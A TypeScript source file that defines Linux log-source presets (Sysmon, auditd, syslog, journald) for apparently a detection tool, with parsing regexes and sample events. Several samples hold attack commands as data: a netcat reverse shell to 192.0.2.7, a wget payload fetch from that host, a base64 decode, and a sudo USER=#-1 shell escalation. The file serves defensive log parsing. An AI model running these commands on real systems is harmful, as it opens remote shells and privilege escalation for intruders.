import { asItComes, type LogSourcePreset } from './log-source-preset.ts';

/** `name=value` where it comes: auditd leaves out what a record has not. */
const audited = (group: string, name = group): string => `(?:.*?\\b${name}="?(?P<${group}>[^" ]*)"?)?`;

const AUDIT_PATTERN = [
  '^(?:node=\\S+ )?type=(?P<type>\\S+) msg=audit\\((?P<audit_id>[^)]+)\\): ?',
  ...['arch', 'syscall', 'success', 'a0', 'a1', 'a2', 'a3'].map((name) => audited(name)),
  ...['comm', 'exe'].map((name) => audited(name)),
  ...['name', 'nametype'].map((name) => audited(name)),
  audited('key'),
].join('');

const SYSLOG_PATTERN =
  '^(?:<\\d{1,3}>)?(?P<timestamp>\\w{3} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d|\\d{4}-\\S+) (?P<hostname>\\S+) (?P<program>[^\\s:\\[]+)(?:\\[(?P<pid>\\d+)\\])?: (?P<text>(?s:.*))$';

/** Logs of Linux. */
export const linuxPresets: readonly LogSourcePreset[] = [
  {
    id: 'linux-sysmon',
    name: 'Sysmon for Linux',
    description:
      'Events of Sysmon for Linux as JSON with the fields at the top and `Linux-Sysmon` as channel or provider; its XML in syslog is not read.',
    ...asItComes,
    example: {
      Provider: 'Linux-Sysmon',
      Channel: 'Linux-Sysmon/Operational',
      EventID: 1,
      Computer: 'web1',
      Image: '/usr/bin/nc.traditional',
      CommandLine: 'nc -e /bin/sh 192.0.2.7 4444',
      User: 'www-data',
      ParentImage: '/usr/sbin/apache2',
    },
  },
  {
    id: 'linux-auditd',
    name: 'auditd as text',
    description:
      'Lines of /var/log/audit/audit.log in `message`, one record an event: type, syscall, a0 to a3, comm, exe, name and key are read. Arguments beyond a3, and those in hexadecimal, are not.',
    script: `regex(field="message", pattern="${AUDIT_PATTERN.replaceAll('"', '\\"')}")`,
    mapping: {},
    example: {
      host: 'web1',
      message:
        'type=EXECVE msg=audit(1795262401.123:4242): argc=3 a0="wget" a1="-O-" a2="http://192.0.2.7/x"',
    },
  },
  {
    id: 'linux-auditd-elastic',
    name: 'auditd by Filebeat or the Elastic Agent',
    description:
      'Events of the data sets `auditd.log` (Filebeat) and `auditd_manager.auditd` (Elastic Agent), understood as they come.',
    ...asItComes,
    example: {
      '@timestamp': '2026-11-20T12:00:01.123Z',
      ecs: { version: '8.11.0' },
      event: { module: 'auditd', dataset: 'auditd.log', action: 'execve' },
      host: { os: { type: 'linux' } },
      auditd: { log: { record_type: 'EXECVE', argc: '2', a0: 'base64', a1: '-d' } },
    },
  },
  {
    id: 'linux-syslog',
    name: 'Linux syslog as text',
    description:
      'Lines of syslog (RFC 3164, or with an ISO time) in `message`; `program` tells the log source: sshd, sudo, cron, auth and others.',
    script: `regex(field="message", pattern="${SYSLOG_PATTERN}")`,
    mapping: {},
    example: {
      message:
        '<38>Nov 20 12:00:01 web1 sshd[4242]: fatal: buffer_get_string: bad string [preauth] from 192.0.2.7',
    },
  },
  {
    id: 'linux-journald',
    name: 'The journal of systemd',
    description: 'Entries of the journal as JSON (journalctl -o json, Fluent Bit, Vector).',
    ...asItComes,
    example: {
      __REALTIME_TIMESTAMP: '1795262401123456',
      _HOSTNAME: 'web1',
      SYSLOG_IDENTIFIER: 'sudo',
      MESSAGE: 'alice : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh',
    },
  },
];
